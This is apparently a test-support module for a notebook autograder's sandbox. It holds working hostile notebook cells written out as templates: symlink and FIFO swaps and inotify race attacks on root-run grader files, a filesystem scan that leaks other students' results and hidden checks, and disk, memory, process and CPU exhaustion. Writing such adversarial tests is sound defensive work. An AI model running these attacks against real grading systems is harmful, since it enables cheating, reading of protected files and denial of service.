"""The attacks of tests/test_adversarial.py: what a hostile student puts in a notebook, as short sources.

An attack is the trivial notebook (one cell that does none of the lab) plus one attack cell, so the
trivial notebook alone is its *plain twin*: what "scores no more than without the attack" compares
with. Sources are :class:`string.Template` texts: ``$canary`` is the root-owned file outside the
sandbox that attacks aim at, and the ``$..._ceiling`` values stop an attack that nothing else stops,
so that a missing cap fails the test instead of filling the host.

An attack that measures something prints ``ATTACK-REPORT <json>`` lines into its own output, which
the test reads from the executed notebook the grader keeps.
"""
from __future__ import annotations

import json
from dataclasses import dataclass
from string import Template

import nbformat
from nbformat import v4

from grader import resources

REPORT = "ATTACK-REPORT"
READER_FOUND = "read outside the sandbox: "  # how the reader's deliberate exception starts


@dataclass(frozen=True)
class Attack:
    name: str  # also the submission's file name: the batch runs them in this order
    source: str  # the attack cell, a Template


def trivial_notebook() -> nbformat.NotebookNode:
    """Every attack's plain twin: its cell runs, and it does nothing of the lab."""
    return v4.new_notebook(cells=[v4.new_markdown_cell("A notebook that does none of the lab."),
                                  v4.new_code_cell('print("nothing of the lab here")')])


def honest_notebook() -> nbformat.NotebookNode:
    return nbformat.read(resources.EXAMPLES_DIR / "correct.ipynb", as_version=4)


def notebook(attack: Attack, **values: object) -> nbformat.NotebookNode:
    """The attacking notebook; ``values`` fill the source's placeholders (as Python literals)."""
    literals = {k: repr(v) for k, v in {"reader_found": READER_FOUND, **values}.items()}
    nb = trivial_notebook()
    nb.cells.append(v4.new_code_cell(Template(attack.source).substitute(literals)))
    return nb


def reports(executed: nbformat.NotebookNode) -> list[dict]:
    """Every ``ATTACK-REPORT`` the notebook printed, in order."""
    found = []
    for cell in executed.cells:
        for output in cell.get("outputs", []):
            for line in str(output.get("text", "")).splitlines():
                if line.startswith(REPORT + " "):
                    found.append(json.loads(line[len(REPORT) + 1:]))
    return found


# --- files the grader touches after the cells --------------------------------------------------

MODEL_SYMLINK_TO_CANARY = """\
# attack: the saved model is a symlink to a root-owned file outside the sandbox
import os
os.symlink($canary, "mnist_cnn.pt")
"""

MODEL_FIFO = """\
# attack: the saved model is a FIFO: whoever opens it to read waits for a writer that never comes
import os
os.mkfifo("mnist_cnn.pt")
"""

MODEL_DEV_ZERO = """\
# attack: the saved model is a symlink to /dev/zero: a read without a bound never ends
import os
os.symlink("/dev/zero", "mnist_cnn.pt")
"""

# Both races below watch the work dir with inotify, to act the moment a name appears or its writer
# closes it, from a forked process, so that the kernel's own threads do not slow them down.
WATCH = """\
import ctypes, os, struct
IN_CREATE, IN_CLOSE_WRITE = 0x100, 0x8
def watch(mask):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, b".", mask) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    def names():
        while True:
            data, offset = os.read(fd, 65536), 0
            while offset < len(data):
                length = struct.unpack_from("iIII", data, offset)[3]
                yield data[offset + 16:offset + 16 + length].rstrip(b"\\0").decode()
                offset += 16 + length
    return names()
"""

# The grader's first design wrote the probe's plan to .labgrader-probe-<nonce>.json in the work dir,
# as root, following links, just after the .npz of the same nonce appeared there.
PROBE_FILE_RACE = """\
# attack: the moment the probe's first file appears, plant symlinks to the canary under its other names
""" + WATCH + """\
import re
created = watch(IN_CREATE)
if os.fork() == 0:
    try:
        for name in created:
            probe = re.fullmatch(r"\\.labgrader-probe-([0-9a-f]+)\\S*", name)
            for suffix in (".json", ".npz", "-out.json") if probe else ():
                try:
                    os.symlink($canary, f".labgrader-probe-{probe.group(1)}{suffix}")
                except OSError:
                    pass
    finally:
        os._exit(0)
"""

ANSWERS_FIFO_SWAP = """\
# attack: swap every file written into the work dir after the cells, except the probe's own inputs,
# for a FIFO as soon as its writer closes it: the probe's answers are replaced once written
""" + WATCH + """\
written = watch(IN_CLOSE_WRITE)
if os.fork() == 0:
    try:
        for name in written:
            if name.startswith((".labgrader-probe-", ".swap-")) and "out" not in name:
                continue
            try:
                os.mkfifo(".swap-" + name)
                os.replace(".swap-" + name, name)
            except OSError:
                pass
    finally:
        os._exit(0)
"""

# --- reading outside the sandbox ---------------------------------------------------------------

READ_OUTSIDE = """\
# attack: look for other students' results and notebooks, old grades and the checkout, and raise
# what was found into this notebook's own report
import json, os, sys, time
SKIP = {".venv", "site-packages", "dist-packages", ".pyenv", ".cache", ".git", "__pycache__"}
SYSTEM = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/boot", "/run")

def places():
    seen = {"/tmp", "/var/tmp", "/work", "/root", "/home", "/srv", "/mnt", "/opt", os.path.dirname(sys.prefix)}
    try:
        for line in open("/proc/self/mountinfo"):
            seen.update(line.split()[3:5])  # each mount's path in its source, and where it is mounted
    except OSError:
        pass
    seen.update(value for value in os.environ.values() if value.startswith("/"))
    for path in list(seen):
        seen.update((os.path.dirname(path), os.path.dirname(os.path.dirname(path))))
    keep = [p for p in seen if p.startswith("/") and p != "/" and not p.startswith(SYSTEM)
            and not SKIP & set(p.split("/"))]
    return sorted(keep, key=lambda p: -p.count("/"))  # the most telling places first

def summary(path):
    text = open(path, errors="replace").read(1 << 20)
    try:
        content = json.loads(text)
        hidden = [c.get("message") for c in content.get("checks", []) if c.get("visibility") == "hidden"]
        return json.dumps({"id": content.get("submission_id"), "hidden": hidden})[:300]
    except (ValueError, AttributeError, TypeError):
        return text[:300]

def scan():
    found, walked = {}, set()
    for top in places():
        budget = 3000
        for root, dirs, files in os.walk(top):
            dirs[:] = [] if root in walked else [d for d in dirs if d not in SKIP]
            walked.add(root)
            for name in files:
                path = os.path.join(root, name)
                if name.endswith((".ipynb", ".json", ".toml")) and os.path.isfile(path) and len(found) < 40:
                    try:
                        found[path] = summary(path)
                    except OSError:
                        pass
            budget -= 1 + len(files)
            if budget < 0:
                break
    return found

deadline = time.time() + 10  # another student's result may still be on its way
found = scan()
while not any(path.endswith("result.json") for path in found) and time.time() < deadline:
    time.sleep(2)
    found = scan()
print("ATTACK-REPORT", json.dumps(sorted(found)))
if found:
    results_first = sorted(found, key=lambda path: ("result" not in path, path))
    raise RuntimeError($reader_found + json.dumps({p: found[p] for p in results_first}))
"""

# --- resources ---------------------------------------------------------------------------------

FILL_DISK = """\
# attack: fill the work dir, /tmp and /dev/shm until writing fails
import errno, json, os
def fill(directory, ceiling=$disk_ceiling):
    block, written = b"\\xa5" * (16 << 20), 0
    try:
        for i in range(ceiling // (64 << 20)):
            with open(os.path.join(directory, f"fill-{i}"), "wb", buffering=0) as f:
                for _ in range(4):  # 64 MiB files: the total is what is capped, not one file
                    written += f.write(block)
    except OSError as error:
        return written, errno.errorcode.get(error.errno, str(error.errno))
    return written, "ceiling"
print("ATTACK-REPORT", json.dumps({place: fill(place) for place in (".", "/tmp", "/dev/shm")}))
"""

EXHAUST_MEMORY = """\
# attack: three processes take memory until they are refused or killed, and keep it; what they still
# hold once all three are done is measured, not counted: a killed one holds nothing
import json, subprocess, sys
TAKE = ("import sys\\nheld, step = [], 256 << 20\\n"
        "while len(held) * step < int(sys.argv[1]):\\n"
        "    held.append(b'\\\\xa5' * step)\\n"
        "print('holding', flush=True)\\n"
        "sys.stdin.read()\\n")
takers = [subprocess.Popen([sys.executable, "-c", TAKE, str($memory_ceiling // 3)], stdin=subprocess.PIPE,
                           stdout=subprocess.PIPE, text=True) for _ in range(3)]
for taker in takers:
    taker.stdout.readline()  # "holding", or nothing once it was refused or killed
def resident(pid):
    try:
        return sum(int(line.split()[1]) << 10 for line in open(f"/proc/{pid}/status") if line.startswith("VmRSS:"))
    except OSError:
        return 0
print("ATTACK-REPORT", json.dumps({"held": sum(resident(taker.pid) for taker in takers)}))
"""

EXHAUST_PIDS = """\
# attack: start threads, then processes, until no more are allowed, and keep the processes
import json, os, threading, time
hold = threading.Event()
threads = []
def flood(start, ceiling=$pids_ceiling):
    for count in range(ceiling):
        try:
            start()
        except (OSError, RuntimeError) as error:
            return count, f"{type(error).__name__}: {error}"
    return ceiling, "ceiling"
def thread():
    started = threading.Thread(target=hold.wait, daemon=True)
    started.start()
    threads.append(started)
def process():
    if os.fork() == 0:
        try:
            time.sleep(3600)
        finally:
            os._exit(0)
made_threads = flood(thread)
hold.set()
for t in threads:
    t.join()
print("ATTACK-REPORT", json.dumps({"threads": made_threads, "processes": flood(process)}))
"""

CPU_HOG = """\
# attack: spinning processes and threads that outlive this cell (one detached by a double fork),
# spinning beside whatever runs in the other worker
import hashlib, multiprocessing, os, threading, time
def spin():
    while True:
        pass
def hash_forever():  # hashlib lets go of the GIL: this thread spins beside the kernel's own work
    block = bytes(1 << 20)
    while True:
        hashlib.sha256(block).digest()
for _ in range(2):
    multiprocessing.get_context("fork").Process(target=spin, daemon=True).start()
threading.Thread(target=hash_forever, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        spin()
    os._exit(0)
time.sleep(10)
"""

# In batch order: the CPU hog starts beside the first honest notebook, the resource attacks run
# around the second, and the reader comes last, when other results have been written.
ATTACKS = (
    Attack("01-cpu-hog", CPU_HOG),
    Attack("03-fill-disk", FILL_DISK),
    Attack("04-exhaust-memory", EXHAUST_MEMORY),
    Attack("05-exhaust-pids", EXHAUST_PIDS),
    Attack("07-model-symlink-to-canary", MODEL_SYMLINK_TO_CANARY),
    Attack("08-model-fifo", MODEL_FIFO),
    Attack("09-model-dev-zero", MODEL_DEV_ZERO),
    Attack("10-probe-file-race", PROBE_FILE_RACE),
    Attack("11-answers-fifo-swap", ANSWERS_FIFO_SWAP),
    Attack("12-read-outside", READ_OUTSIDE),
)
HONEST_NAMES = ("02-honest", "06-honest")  # the correct notebook, unchanged, between the attacks
